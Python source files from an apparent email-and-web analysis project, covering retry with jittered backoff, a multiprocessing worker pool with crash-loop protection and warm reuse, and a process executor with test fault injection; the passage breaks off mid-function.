"""Retry policy: exponential backoff with jitter, and dead letters.

Transient faults (a flaky enrichment source, an injected test fault)
are retried with exponentially growing, jittered delays; jobs that
exhaust their attempts land on the runner's dead-letter list instead of
poisoning the run.  Non-transient exceptions are *not* retried — they
indicate a pipeline bug and abort the run.
"""

from __future__ import annotations

import random
from dataclasses import dataclass


class TransientFault(RuntimeError):
    """A failure worth retrying (the analysis itself is sound)."""


@dataclass(frozen=True)
class RetryPolicy:
    """How failing jobs are re-delivered."""

    #: Total delivery attempts per job (1 = no retries).
    max_attempts: int = 3
    #: Delay before the first retry, in seconds.
    base_delay: float = 0.05
    #: Growth factor per subsequent retry.
    multiplier: float = 2.0
    #: Upper bound on any single delay.
    max_delay: float = 2.0
    #: Jitter as a fraction of the computed delay (0.25 = up to +25%).
    jitter: float = 0.25
    #: Exception types considered transient.
    transient_types: tuple[type[BaseException], ...] = (TransientFault,)

    def is_transient(self, error: BaseException) -> bool:
        return isinstance(error, self.transient_types)

    def backoff_delay(self, attempt: int, rng: random.Random | None = None) -> float:
        """Delay before retry number ``attempt`` (1-based)."""
        if attempt < 1:
            raise ValueError("attempt is 1-based")
        delay = min(self.base_delay * self.multiplier ** (attempt - 1), self.max_delay)
        if self.jitter and rng is not None:
            delay += delay * self.jitter * rng.random()
        return delay


@dataclass(frozen=True)
class DeadLetter:
    """A job that exhausted its attempts."""

    index: int
    attempts: int
    error: str
    #: Per-attempt error reprs in delivery order (the last one equals
    #: ``error``); empty for letters predating retry-history tracking.
    history: tuple[str, ...] = ()
    #: Total backoff the runner slept between this job's deliveries.
    backoff_seconds: float = 0.0

    def as_dict(self) -> dict:
        data = {"index": self.index, "attempts": self.attempts, "error": self.error}
        # Emitted only when populated, so manifests from runs without
        # retries keep the historical key set.
        if self.history:
            data["history"] = list(self.history)
        if self.backoff_seconds:
            data["backoff_seconds"] = round(self.backoff_seconds, 6)
        return data
