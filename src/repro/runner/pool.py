"""Persistent process worker pools: lifecycle, frames, and warm reuse.

The process backend's scaling ceiling was never the analysis — it was
the plumbing around it: one pickled dict per message crossing the mp
queue, a parent busy-polling ``outq.get`` at 250 ms, and a cold pool
rebuild (corpus regeneration + CrawlerBox construction in every worker)
for every run.  This module extracts that plumbing into one reusable
layer shared by the batch :class:`~repro.runner.executor.ProcessPool`,
``resume``, and the serve daemon's
:class:`~repro.serve.engine.ProcessEngine`:

- **Result frames** — workers accumulate finished records as their
  final checkpoint wire bytes and ship *one* length-prefixed frame per
  flush (count/byte threshold or batch end), each carrying a worker-
  local :class:`~repro.runner.stats.RunningStats` shard, so queue round
  trips and parent-side stats work scale with frames, not messages.
- **Blocking gets + sentinel wakeups** — the parent blocks on the
  result queue; a watcher thread waits on worker *process sentinels*
  and posts ``worker-died`` / ``stall-tick`` wakeups into the same
  queue, and drain paths post an explicit ``wake``.  No poll interval,
  no idle wakeups.
- **Warm reuse** — a pool whose :class:`RunnerConfig` matches the next
  run's is parked instead of torn down; acquisition re-syncs surviving
  workers (draining any stale output) and they keep their built worlds.
  Reuse is refused for configs whose workers accumulate run-scoped
  state (``--profile`` timing, injected test faults).

The pool is mechanism only: drivers own scheduling policy (dispatch,
retries, dead letters, quarantine).  Everything a driver consumes
arrives through :meth:`WorkerPool.get`.
"""

from __future__ import annotations

import atexit
import multiprocessing
import queue as stdlib_queue
import signal
import struct
import threading
import time
from multiprocessing import connection as mp_connection

from repro.runner.stats import RunningStats

#: Seconds to wait for workers to acknowledge a stop before terminating.
_STOP_GRACE = 5.0

#: Seconds the sentinel watcher sleeps between scans; bounds how stale a
#: death/stall wakeup can be, *not* how fast results flow (results wake
#: the parent instantly via the blocking get).
_WATCH_INTERVAL = 0.5

def _worker_entry(target, worker_id, config, inq, outq):
    """Worker bootstrap: shed inherited signal dispositions, then run.

    Forked workers inherit the parent CLI's SIGINT/SIGTERM handlers —
    for ``repro serve`` that handler is ``daemon.request_shutdown()``
    on the worker's dead copy of the daemon, which swallows the SIGTERM
    that :meth:`WorkerPool.stop` sends, leaving an unstoppable worker
    that the interpreter's exit join then waits on forever.  Workers
    take orders over their command queue, never via signals: SIGTERM
    reverts to its default (so ``terminate()`` works) and SIGINT is
    ignored (a terminal Ctrl-C is delivered to the whole foreground
    process group; the parent coordinates the drain).
    """
    for signum, disposition in (
        (signal.SIGTERM, signal.SIG_DFL),
        (signal.SIGINT, signal.SIG_IGN),
    ):
        try:
            signal.signal(signum, disposition)
        except (ValueError, OSError):
            pass
    target(worker_id, config, inq, outq)


# ----------------------------------------------------------------------
# Result frames
# ----------------------------------------------------------------------
#: Per-entry header: (message_index, wire_length), both unsigned 32-bit.
_FRAME_ENTRY = struct.Struct(">II")

#: Worker-side flush thresholds: a frame ships once it holds this many
#: records or this many payload bytes, and always at batch end.
FRAME_FLUSH_RECORDS = 32
FRAME_FLUSH_BYTES = 256 * 1024


def pack_frame(entries: list[tuple[int, bytes]]) -> bytes:
    """Concatenate ``(index, wire)`` entries into one framed blob."""
    parts = []
    for index, wire in entries:
        parts.append(_FRAME_ENTRY.pack(index, len(wire)))
        parts.append(wire)
    return b"".join(parts)


def unpack_frame(blob: bytes) -> list[tuple[int, bytes]]:
    """Inverse of :func:`pack_frame`."""
    entries = []
    offset = 0
    header = _FRAME_ENTRY.size
    while offset < len(blob):
        index, length = _FRAME_ENTRY.unpack_from(blob, offset)
        offset += header
        entries.append((index, blob[offset : offset + length]))
        offset += length
    return entries


class ResultBatcher:
    """Worker-side result accumulator.

    Collects ``(index, wire)`` pairs and folds each record into a local
    :class:`RunningStats` shard; :meth:`flush` ships one
    ``("frame", worker_id, blob, shard)`` message.  The shard travels as
    the pickled object (never ``as_dict``, whose rounding would break
    manifest byte-identity) and covers exactly the frame's records, so
    the parent absorbs it iff every entry in the frame is fresh.
    """

    def __init__(
        self,
        outq,
        worker_id: int,
        flush_records: int = FRAME_FLUSH_RECORDS,
        flush_bytes: int = FRAME_FLUSH_BYTES,
    ):
        self.outq = outq
        self.worker_id = worker_id
        self.flush_records = flush_records
        self.flush_bytes = flush_bytes
        self._entries: list[tuple[int, bytes]] = []
        self._bytes = 0
        self._shard = RunningStats()

    def add(self, index: int, wire: bytes, record) -> None:
        self._entries.append((index, wire))
        self._bytes += len(wire)
        self._shard.update(record)
        if len(self._entries) >= self.flush_records or self._bytes >= self.flush_bytes:
            self.flush()

    def flush(self) -> None:
        if not self._entries:
            return
        self.outq.put(
            ("frame", self.worker_id, pack_frame(self._entries), self._shard)
        )
        self._entries = []
        self._bytes = 0
        self._shard = RunningStats()


# ----------------------------------------------------------------------
# Host introspection
# ----------------------------------------------------------------------
class RespawnGovernor:
    """Crash-loop protection for worker respawns.

    An unconditional reap→respawn policy turns a worker target that
    dies on arrival (a bad native dependency, an OOM-killed cgroup, a
    corrupt world cache) into an infinite spawn spin that looks alive
    from the outside.  Drivers consult the governor before every
    respawn:

    - :meth:`permit` returns the backoff delay to sleep before the
      replacement spawns — exponential in the current *consecutive*
      crash streak, so a genuinely flaky target costs little and a
      flapping one backs off hard;
    - once more than ``budget`` crashes land inside ``window`` seconds,
      :meth:`permit` returns None and the driver converts the spin into
      a clean abort with :meth:`diagnosis` as the error text.

    Any sign of worker progress (a result frame, a finished batch)
    resets the streak via :meth:`note_progress`; the windowed budget
    keeps counting, so progress interleaved with crashes still exhausts
    it eventually.
    """

    def __init__(
        self,
        budget: int = 12,
        window: float = 60.0,
        base_delay: float = 0.05,
        max_delay: float = 2.0,
    ):
        self.budget = budget
        self.window = window
        self.base_delay = base_delay
        self.max_delay = max_delay
        self._crashes: list[float] = []  # monotonic timestamps, windowed
        self._streak = 0
        self._exit_codes: list[int | None] = []

    def note_progress(self) -> None:
        self._streak = 0

    def note_crash(self, exitcode: int | None = None) -> None:
        now = time.monotonic()
        self._crashes.append(now)
        self._exit_codes.append(exitcode)
        cutoff = now - self.window
        while self._crashes and self._crashes[0] < cutoff:
            self._crashes.pop(0)
        self._streak += 1

    def permit(self) -> float | None:
        """Backoff delay before the next respawn, or None when the
        crash budget is exhausted (caller must abort, not respawn)."""
        if len(self._crashes) > self.budget:
            return None
        if self._streak <= 1:
            return 0.0
        return min(self.max_delay, self.base_delay * (2 ** (self._streak - 2)))

    def diagnosis(self) -> str:
        tail = ", ".join(str(code) for code in self._exit_codes[-6:])
        return (
            f"worker crash budget exhausted: {len(self._crashes)} crashes "
            f"within {self.window:g}s ({self._streak} consecutive; recent "
            f"exit codes: {tail}); the worker target is flapping — "
            f"aborting instead of respawning forever"
        )


def effective_cpu_count() -> int:
    """CPUs this process may actually run on (cgroup/affinity aware).

    ``os.cpu_count()`` reports the machine; a containerized or
    ``taskset``-pinned run sees fewer.  Scaling verdicts use this so a
    one-core CI shard reports ``insufficient-cores`` instead of
    presenting oversubscription as a measurement.
    """
    import os

    try:
        return len(os.sched_getaffinity(0)) or 1
    except (AttributeError, OSError):
        return os.cpu_count() or 1


# ----------------------------------------------------------------------
# The pool
# ----------------------------------------------------------------------
class WorkerPool:
    """Owns worker-process lifecycle for one picklable config.

    Workers run ``target(worker_id, config, inq, outq)`` — the shared
    ``_worker_main`` loop — and everything they (or the watcher) emit
    arrives via :meth:`get`:

    - worker messages: ``ready``, ``frame``, ``fail``, ``batch-done``,
      ``profile``, ``stopped``, ``init-failed``, ``synced``
    - watcher wakeups: ``("worker-died", worker_id)`` when a process
      sentinel fires, ``("stall-tick", -1)`` when no message has been
      consumed for ``stall_timeout`` seconds
    - driver wakeups: ``("wake", -1)`` from :meth:`wake` (drain paths)
    """

    def __init__(self, target, config, jobs: int, name_prefix: str = "repro-pool"):
        self.target = target
        self.config = config
        self.name_prefix = name_prefix
        self.context = multiprocessing.get_context(
            "fork" if "fork" in multiprocessing.get_all_start_methods() else None
        )
        self.outq = self.context.Queue()
        self.workers: dict[int, object] = {}
        self.inqs: dict[int, object] = {}
        #: Workers known to be past init (announced ``ready`` to a prior
        #: driver, then echoed a quiesce sync).  A fresh driver dispatches
        #: to these immediately instead of waiting for a handshake that
        #: already happened.
        self.ready: set[int] = set()
        #: Seconds of total consumption silence before the watcher posts
        #: a ``stall-tick`` (None disables the watchdog, e.g. serve).
        self.stall_timeout: float | None = None
        self._lock = threading.Lock()
        self._next_worker_id = 0
        self._sync_token = 0
        self._held: list[tuple] = []
        self._last_traffic = time.monotonic()
        self._watch_stop = threading.Event()
        self._notified_dead: set[int] = set()
        for _ in range(max(1, jobs)):
            self.spawn()
        self._watcher = threading.Thread(
            target=self._watch, name=f"{name_prefix}-watch", daemon=True
        )
        self._watcher.start()

    # ------------------------------------------------------------------
    # Worker lifecycle
    # ------------------------------------------------------------------
    def spawn(self) -> int:
        with self._lock:
            worker_id = self._next_worker_id
            self._next_worker_id += 1
            inq = self.context.Queue()
            process = self.context.Process(
                target=_worker_entry,
                args=(self.target, worker_id, self.config, inq, self.outq),
                name=f"{self.name_prefix}-{worker_id}",
                daemon=True,
            )
            process.start()
            self.workers[worker_id] = process
            self.inqs[worker_id] = inq
        return worker_id

    def send(self, worker_id: int, command: tuple) -> None:
        inq = self.inqs.get(worker_id)
        if inq is not None:
            try:
                inq.put(command)
            except Exception:
                pass  # queue torn down under us; the sentinel will fire

    def discard(self, worker_id: int, terminate: bool = False):
        """Forget a worker (returns its process, or None if unknown)."""
        with self._lock:
            process = self.workers.pop(worker_id, None)
            inq = self.inqs.pop(worker_id, None)
            self.ready.discard(worker_id)
        if inq is not None:
            inq.cancel_join_thread()
        if process is not None and terminate and process.is_alive():
            process.terminate()
            process.join(timeout=_STOP_GRACE)
        return process

    def note_ready(self, worker_id: int) -> None:
        """Driver callback: this worker completed its init handshake."""
        if worker_id in self.workers:
            self.ready.add(worker_id)

    def resize(self, jobs: int) -> tuple[list[int], list[int]]:
        """Grow/shrink to ``jobs`` workers → ``(kept, spawned)`` ids.

        Shrinking stops the newest workers without waiting; their
        farewell messages are drained by the next :meth:`quiesce`.
        """
        with self._lock:
            live = sorted(self.workers)
        for worker_id in live[jobs:]:
            self.send(worker_id, ("stop",))
            self.discard(worker_id)
        kept = live[:jobs]
        spawned = [self.spawn() for _ in range(jobs - len(kept))]
        return kept, spawned

    # ------------------------------------------------------------------
    # Message flow
    # ------------------------------------------------------------------
    def get(self, timeout: float | None = None):
        """Next message (blocking).  Held messages replay first."""
        if self._held:
            return self._held.pop(0)
        if timeout is None:
            message = self.outq.get()
        else:
            message = self.outq.get(timeout=timeout)
        self._last_traffic = time.monotonic()
        return message

    def wake(self) -> None:
        """Post a no-op wakeup (signal-handler/driver safe): unblocks a
        parent sitting in :meth:`get` so it can notice a drain flag."""
        try:
            self.outq.put(("wake", -1))
        except Exception:
            pass

    def _watch(self) -> None:
        """Sentinel watcher: turns silent worker deaths and stalls into
        queue messages, so the parent never needs a poll interval."""
        while not self._watch_stop.is_set():
            with self._lock:
                sentinels = {
                    process.sentinel: worker_id
                    for worker_id, process in self.workers.items()
                    if worker_id not in self._notified_dead
                }
            if sentinels:
                try:
                    fired = mp_connection.wait(
                        list(sentinels), timeout=_WATCH_INTERVAL
                    )
                except OSError:
                    fired = []
                for sentinel in fired:
                    worker_id = sentinels[sentinel]
                    self._notified_dead.add(worker_id)
                    try:
                        self.outq.put(("worker-died", worker_id))
                    except Exception:
                        return  # queue torn down: the pool is stopping
            else:
                self._watch_stop.wait(_WATCH_INTERVAL)
            stall = self.stall_timeout
            if stall and time.monotonic() - self._last_traffic >= stall:
                self._last_traffic = time.monotonic()  # one tick per window
                try:
                    self.outq.put(("stall-tick", -1))
                except Exception:
                    return

    # ------------------------------------------------------------------
    # Warm handoff
    # ------------------------------------------------------------------
    def quiesce(self, worker_ids: list[int], timeout: float = 60.0) -> None:
        """Drain stale output until each listed worker echoes a sync.

        Run between runs (no driver pumping): every surviving worker is
        sent a ``("sync", token)``; its echo proves the queue holds
        nothing older from it.  Stale frames/acks from the previous run
        are dropped; a genuinely *new* ``ready``/``init-failed`` (a late
        replacement spawn) is held for the next driver.  Workers that
        neither echo nor die by the deadline are killed.
        """
        self._sync_token += 1
        token = self._sync_token
        waiting = {wid for wid in worker_ids if wid in self.workers}
        for worker_id in waiting:
            self.send(worker_id, ("sync", token))
        deadline = time.monotonic() + timeout
        while waiting:
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                break
            try:
                message = self.outq.get(timeout=min(_WATCH_INTERVAL, remaining))
            except stdlib_queue.Empty:
                for worker_id in list(waiting):
                    process = self.workers.get(worker_id)
                    if process is None or not process.is_alive():
                        waiting.discard(worker_id)
                        self.discard(worker_id)
                continue
            kind = message[0]
            if kind == "synced" and message[2] == token:
                waiting.discard(message[1])
                self.note_ready(message[1])
            elif kind == "worker-died":
                if message[1] in waiting:
                    waiting.discard(message[1])
                    self.discard(message[1])
            elif kind in ("ready", "init-failed") and message[1] not in worker_ids:
                self._held.append(message)  # news for the next driver
            # anything else is last run's stale output: dropped
        for worker_id in waiting:  # wedged mid-sync: kill, don't reuse
            self.discard(worker_id, terminate=True)

    # ------------------------------------------------------------------
    # Teardown
    # ------------------------------------------------------------------
    def stop(self, graceful: bool = True, on_message=None) -> None:
        """Stop every worker and the watcher.

        ``graceful`` sends ``stop`` and pumps farewells until workers
        acknowledge (forwarding e.g. ``profile`` snapshots to
        ``on_message``); otherwise workers are terminated outright.
        """
        self._watch_stop.set()
        with self._lock:
            worker_ids = list(self.workers)
        if graceful:
            for worker_id in worker_ids:
                self.send(worker_id, ("stop",))
            stopped: set[int] = set()
            deadline = time.monotonic() + _STOP_GRACE
            while len(stopped) < len(worker_ids) and time.monotonic() < deadline:
                try:
                    message = self.outq.get(timeout=_WATCH_INTERVAL)
                except stdlib_queue.Empty:
                    if not any(
                        process.is_alive() for process in self.workers.values()
                    ):
                        break
                    continue
                if message[0] == "stopped":
                    stopped.add(message[1])
                elif message[0] == "profile" and on_message is not None:
                    on_message(message)
        for process in list(self.workers.values()):
            if process.is_alive():
                process.terminate()
            process.join(timeout=_STOP_GRACE)
        self.outq.cancel_join_thread()
        for inq in self.inqs.values():
            inq.cancel_join_thread()
        self.workers.clear()
        self.inqs.clear()
        self.ready.clear()


# ----------------------------------------------------------------------
# Warm registry
# ----------------------------------------------------------------------
_warm_lock = threading.Lock()
_warm_pool: WorkerPool | None = None


def warm_eligible(config) -> bool:
    """Whether a pool built for ``config`` may be parked for reuse.

    ``--profile`` workers accumulate run-scoped timing state that only
    ships at stop, and the test fault injector (``RunnerConfig.fault``)
    tracks how often it already fired — both would leak across runs, so
    those pools always tear down gracefully instead.
    """
    return not getattr(config, "profile", False) and not getattr(config, "fault", "")


def acquire_pool(target, config, jobs: int, name_prefix: str = "repro-pool") -> WorkerPool:
    """A ready pool for ``(target, config)`` — warm if one is parked.

    A parked pool with a matching config is resized and re-synced (its
    workers keep their built corpus/CrawlerBox state); a mismatched one
    is torn down.  Either way the caller owns the returned pool until
    :func:`release_pool`.
    """
    global _warm_pool
    with _warm_lock:
        pool = _warm_pool
        _warm_pool = None
    if pool is not None:
        if pool.target == target and pool.config == config:
            kept, _ = pool.resize(jobs)
            pool.quiesce(kept)
            return pool
        pool.stop(graceful=True)
    return WorkerPool(target, config, jobs, name_prefix=name_prefix)


def release_pool(pool: WorkerPool, on_message=None) -> None:
    """Hand a pool back: park it warm when eligible, else stop it.

    ``on_message`` receives farewell messages (``profile`` snapshots)
    when the pool tears down gracefully.
    """
    global _warm_pool
    if not warm_eligible(pool.config):
        pool.stop(graceful=True, on_message=on_message)
        return
    pool.stall_timeout = None
    with _warm_lock:
        previous = _warm_pool
        _warm_pool = pool
    if previous is not None and previous is not pool:
        previous.stop(graceful=True)


def drop_warm_pool() -> None:
    """Tear down any parked pool (tests, interpreter exit)."""
    global _warm_pool
    with _warm_lock:
        pool = _warm_pool
        _warm_pool = None
    if pool is not None:
        pool.stop(graceful=False)


def prewarm(target, config, jobs: int, timeout: float = 300.0) -> None:
    """Build and park a ready pool so the next run starts hot.

    Waits for every worker's init (corpus regeneration + CrawlerBox
    construction) to finish — benchmarks call this so timed runs measure
    analysis throughput, not pool construction.
    """
    pool = acquire_pool(target, config, jobs)
    with pool._lock:
        worker_ids = list(pool.workers)
    pool.quiesce(worker_ids, timeout=timeout)
    release_pool(pool)


atexit.register(drop_warm_pool)
