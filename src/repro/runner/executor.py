"""Process-based execution backend: scale past the GIL.

The per-message analysis (JS interpretation, QR decoding, DCT hashing,
DOM rendering) is CPU-bound pure Python, so the thread backend cannot
exceed one core on a stock interpreter.  This module runs the same
sharded-worker design across *processes*:

- Nothing live crosses the process boundary.  Workers receive a
  picklable :class:`RunnerConfig` (seed material, scale, crawler profile
  name), regenerate the corpus and build a private
  :class:`~repro.core.pipeline.CrawlerBox` locally, and then pull
  message *indices* in batches — full MIME trees are never pickled.
- Finished records stream back to the parent as the plain dicts of
  :mod:`repro.core.export`, the same serialization the JSONL checkpoint
  uses, so the parent (which owns the checkpoint, manifest, retry and
  dead-letter bookkeeping, and the stats merge) reconstructs records
  losslessly.
- Determinism is inherited from the pipeline: every record depends only
  on ``(seed material, message_index)``, so ``jobs=N`` process runs are
  byte-identical to ``jobs=1`` thread runs.

A worker process that dies (OOM-killed, segfaulted native code, or the
test fault injector's hard exit) is detected by the parent's liveness
poll: its in-flight indices are charged one failed attempt each and
re-queued or dead-lettered per the retry policy, and a replacement
worker is spawned.  The *thread* backend remains the default for
``jobs=1`` and for spawn-unfriendly environments (Windows, frozen
binaries): it needs no picklable config and starts instantly, at the
price of GIL-serialized throughput.
"""

from __future__ import annotations

import multiprocessing
import os
import pickle
import queue as stdlib_queue
import time
from collections import deque
from dataclasses import dataclass, replace

from repro.runner.retry import TransientFault

#: Seconds between liveness polls while waiting for worker results.
_POLL_INTERVAL = 0.25

#: Seconds to wait for workers to acknowledge a stop before terminating.
_STOP_GRACE = 5.0

#: Default seconds of total silence (no results, no crashes, work
#: outstanding) before the parent reaps the stalled workers.  Far above
#: any single-message analysis time; overridable per run via
#: ``CorpusRunner(stall_timeout=...)``.
_STALL_TIMEOUT = 60.0


class WorkerCrash(TransientFault):
    """A worker process died with in-flight jobs (treated as transient:
    the crash may be environmental, so the indices get retried on a
    fresh worker before being dead-lettered)."""


class WorkerStalled(TransientFault):
    """A worker produced no output past the stall timeout and was
    reaped.  Transient like a crash — the stall may be environmental —
    but once an index exhausts its attempts on stalls it is
    *quarantined* (a durable record naming the watchdog) rather than
    dead-lettered: a message that deterministically wedges workers must
    never re-enter the pool on the next resume."""


@dataclass(frozen=True)
class RunnerConfig:
    """Picklable recipe for rebuilding the analysis world in a worker.

    Carries seed *material*, never live objects: each worker regenerates
    its own corpus and world from the seed, exactly as the parent did.
    """

    seed: int = 2024
    scale: float = 1.0
    crawler_profile: str = "notabot"
    #: Stage-plan selection (``None`` = every built-in stage); carried
    #: here so thread and process backends build identical plans — a
    #: ``--stages auth,parse`` triage run subsets in every worker.
    stages: tuple[str, ...] | None = None
    #: Collect per-stage timings (see :mod:`repro.runner.profile`).
    profile: bool = False
    #: Test-only fault injection, applied inside the worker:
    #: ``"crash:<index>"`` hard-exits the process when analyzing that
    #: message; ``"transient:<index>:<n>"`` raises TransientFault on the
    #: first ``n`` attempts at that message; ``"wedge:<index>"`` sleeps
    #: far past any stall timeout (a hard wedge the cooperative budget
    #: cannot interrupt), exercising the reap-to-quarantine path.
    fault: str = ""
    #: Fault-injection profile for the simulated internet
    #: (``off | light | heavy | hostile``); each worker installs the
    #: same seeded engine on its rebuilt network, so process runs see
    #: the same deterministic weather as thread runs.
    faults: str = "off"
    fault_seed: int = 0
    #: Per-message work-unit budget override (None = pipeline default,
    #: 0 = unlimited); the CLI's ``--budget``.
    budget: int | None = None
    #: Ingestion-guard cap overrides as ``(key, value)`` pairs — the
    #: picklable form of the CLI's repeatable ``--guard-limit`` — so
    #: thread and process workers enforce identical structural limits
    #: (None/empty = the stock :class:`~repro.mail.guard.GuardLimits`).
    guard_limits: tuple[tuple[str, int], ...] | None = None
    #: Truncate the regenerated corpus to its first N messages (None =
    #: all).  Parent and workers address messages by index, so a run
    #: over a corpus *sample* must truncate identically on both sides.
    corpus_prefix: int | None = None
    #: Append a seeded hostile corpus (``repro.dataset.hostile``) after
    #: the (possibly truncated) generated corpus: ``"<seed>:<copies>"``.
    #: Index-stable on every worker, so hostile-ingest runs stay
    #: byte-identical across backends.
    hostile: str = ""

    # ------------------------------------------------------------------
    def build(self):
        """(messages, box) — runs inside the worker process."""
        from repro.core import CrawlerBox
        from repro.crawlers.base import Crawler
        from repro.crawlers.profiles import crawler_profile
        from repro.dataset import CorpusGenerator
        from repro.runner.profile import StageProfiler

        corpus = CorpusGenerator(seed=self.seed, scale=self.scale).generate()
        messages = corpus.messages
        if self.corpus_prefix is not None:
            messages = messages[: self.corpus_prefix]
        if self.hostile:
            from repro.dataset.hostile import hostile_corpus

            hostile_seed, _, copies = self.hostile.partition(":")
            messages = messages + hostile_corpus(
                seed=int(hostile_seed), copies=int(copies or 1)
            )
        if self.faults != "off":
            from repro.web.faults import FaultEngine, fault_profile

            corpus.world.network.install_faults(
                FaultEngine(fault_profile(self.faults), seed=self.fault_seed)
            )
        profiler = StageProfiler() if self.profile else None
        from repro.core.pipeline import build_pipeline_config

        pipeline_config = build_pipeline_config(self.budget, self.guard_limits)
        box = CrawlerBox.for_world(
            corpus.world, profiler=profiler, stages=self.stages, config=pipeline_config
        )
        if self.crawler_profile != "notabot":
            box.crawler = Crawler(
                corpus.world.network,
                crawler_profile(self.crawler_profile),
                rng=box.crawler.rng,
                retain_results=False,
            )
        return messages, box


# ----------------------------------------------------------------------
# Worker side
# ----------------------------------------------------------------------
def _parse_fault(spec: str):
    if not spec:
        return None
    parts = spec.split(":")
    if parts[0] == "crash":
        return ("crash", int(parts[1]))
    if parts[0] == "transient":
        return ("transient", int(parts[1]), int(parts[2]) if len(parts) > 2 else 1)
    if parts[0] == "wedge":
        return ("wedge", int(parts[1]))
    raise ValueError(f"unknown fault spec {spec!r}")


def _portable_error(error: BaseException) -> BaseException:
    """The exception itself when picklable, else a repr-carrying stand-in."""
    try:
        pickle.loads(pickle.dumps(error))
        return error
    except Exception:
        return RuntimeError(repr(error))


def _worker_main(worker_id: int, config: RunnerConfig, inq, outq) -> None:
    """Worker process entry point: build once, analyze batches forever."""
    try:
        import signal

        # A terminal Ctrl-C reaches the whole process group; the drain
        # protocol wants workers to *finish* their current message, so
        # only the parent acts on SIGINT.  SIGTERM (the reaper) still
        # kills us.
        signal.signal(signal.SIGINT, signal.SIG_IGN)
    except (ValueError, OSError):
        pass
    try:
        messages, box = config.build()
    except BaseException as error:  # noqa: BLE001 - reported to the parent
        outq.put(("init-failed", worker_id, repr(error)))
        return
    outq.put(("ready", worker_id))
    fault = _parse_fault(config.fault)
    fault_seen = 0
    while True:
        command = inq.get()
        if command[0] == "stop":
            if box.profiler is not None and box.profiler.enabled:
                outq.put(("profile", worker_id, box.profiler.snapshot()))
            outq.put(("stopped", worker_id))
            return
        if command[0] == "eml-batch":
            # Service-mode dispatch (``repro serve``): submissions are
            # raw RFC-822 bytes that do not exist in the regenerated
            # corpus, so the bytes themselves travel — the one case
            # where message content crosses the process boundary.  The
            # record stays a pure function of (seed material, index),
            # exactly like corpus messages.
            from repro.core.export import record_to_dict
            from repro.mail.ingest import ingest_eml_bytes

            for index, raw in command[1]:
                try:
                    message = ingest_eml_bytes(raw)
                    record = box.analyze(message, message_index=index)
                except BaseException as error:  # noqa: BLE001 - routed to parent
                    outq.put(("fail", worker_id, index, _portable_error(error)))
                else:
                    outq.put(("ok", worker_id, index, record_to_dict(record)))
            outq.put(("batch-done", worker_id))
            continue
        for index in command[1]:
            try:
                if fault is not None and fault[1] == index:
                    if fault[0] == "wedge":
                        # A hard wedge the cooperative budget cannot see
                        # (native-code loop, deadlocked lock, ...): go
                        # silent until the parent's stall watchdog reaps
                        # this process.  Every attempt wedges, so the
                        # index deterministically exhausts its retries
                        # and lands in quarantine.
                        time.sleep(3600.0)
                    if fault[0] == "crash":
                        # Simulate a hard worker death — but flush the
                        # result queue's feeder thread first: exiting
                        # while it holds the queue's shared write lock
                        # would deadlock every other worker's put()
                        # (an inherent multiprocessing.Queue hazard the
                        # fault models death *between* writes to avoid).
                        outq.close()
                        outq.join_thread()
                        os._exit(13)
                    fault_seen += 1
                    if fault_seen <= fault[2]:
                        raise TransientFault(f"injected fault attempt {fault_seen}")
                record = box.analyze(messages[index], message_index=index)
            except BaseException as error:  # noqa: BLE001 - routed to parent
                outq.put(("fail", worker_id, index, _portable_error(error)))
            else:
                from repro.core.export import record_to_dict

                outq.put(("ok", worker_id, index, record_to_dict(record)))
        outq.put(("batch-done", worker_id))


# ----------------------------------------------------------------------
# Parent side
# ----------------------------------------------------------------------
class ProcessPool:
    """Drives worker processes for one :class:`CorpusRunner` run.

    The runner owns all durable state (checkpoint, manifest, stats,
    dead letters); the pool owns only scheduling: batch dispatch,
    retry/crash accounting, and worker lifecycle.
    """

    def __init__(self, runner, config: RunnerConfig, jobs: int, batch_size: int | None = None):
        self.runner = runner
        self.config = replace(config, profile=runner.profiler is not None)
        self.jobs = jobs
        self.batch_size = batch_size
        self.context = multiprocessing.get_context(
            "fork" if "fork" in multiprocessing.get_all_start_methods() else None
        )
        self.outq = self.context.Queue()
        self.workers: dict[int, object] = {}
        self.inqs: dict[int, object] = {}
        self.inflight: dict[int, set[int]] = {}
        self.idle: set[int] = set()
        self.stopped: set[int] = set()
        self._next_worker_id = 0

    # ------------------------------------------------------------------
    def run(self, pending: list[int]) -> None:
        runner = self.runner
        batch = self.batch_size or max(1, min(16, len(pending) // (self.jobs * 4) or 1))
        self.pending: deque[int] = deque(pending)
        #: Failed indices awaiting re-delivery; dispatched one per batch
        #: so a poison message cannot drag batch-mates into its crash
        #: accounting a second time.
        self.retries: deque[int] = deque()
        self.remaining: set[int] = set(pending)
        self.attempts: dict[int, int] = {}
        #: Per-index error reprs across attempts, for dead-letter history.
        self.attempt_errors: dict[int, list[str]] = {}

        stall_timeout = getattr(runner, "stall_timeout", None) or _STALL_TIMEOUT

        for _ in range(min(self.jobs, max(1, len(pending)))):
            self._spawn_worker()
        try:
            idle_polls = 0
            draining = False
            while self.remaining and runner._fatal is None:
                if runner._drain.is_set():
                    if not draining:
                        # Graceful shutdown: drop the backlog so no new
                        # batch dispatches; already-dispatched batches
                        # finish (their records checkpoint normally).
                        draining = True
                        self.pending.clear()
                        self.retries.clear()
                    if not any(self.inflight.values()):
                        break
                try:
                    message = self.outq.get(timeout=_POLL_INTERVAL)
                except stdlib_queue.Empty:
                    self._reap_crashed_workers(batch)
                    idle_polls += 1
                    if idle_polls * _POLL_INTERVAL >= stall_timeout:
                        idle_polls = 0
                        self._reap_stalled(batch, stall_timeout)
                    continue
                idle_polls = 0
                self._handle(message, batch)
            self._shutdown(graceful=runner._fatal is None)
        except BaseException:
            self._shutdown(graceful=False)
            raise

    # ------------------------------------------------------------------
    def _spawn_worker(self) -> None:
        worker_id = self._next_worker_id
        self._next_worker_id += 1
        inq = self.context.Queue()
        process = self.context.Process(
            target=_worker_main,
            args=(worker_id, self.config, inq, self.outq),
            name=f"repro-proc-worker-{worker_id}",
            daemon=True,
        )
        process.start()
        self.workers[worker_id] = process
        self.inqs[worker_id] = inq
        self.inflight[worker_id] = set()

    def _dispatch(self, worker_id: int, batch: int) -> None:
        indices = []
        if self.retries:
            indices.append(self.retries.popleft())  # isolated re-delivery
        else:
            while self.pending and len(indices) < batch:
                indices.append(self.pending.popleft())
        if not indices:
            self.idle.add(worker_id)
            return
        self.idle.discard(worker_id)
        self.inflight[worker_id] = set(indices)
        self.inqs[worker_id].put(("batch", indices))

    def _dispatch_idle(self, batch: int) -> None:
        for worker_id in sorted(self.idle):
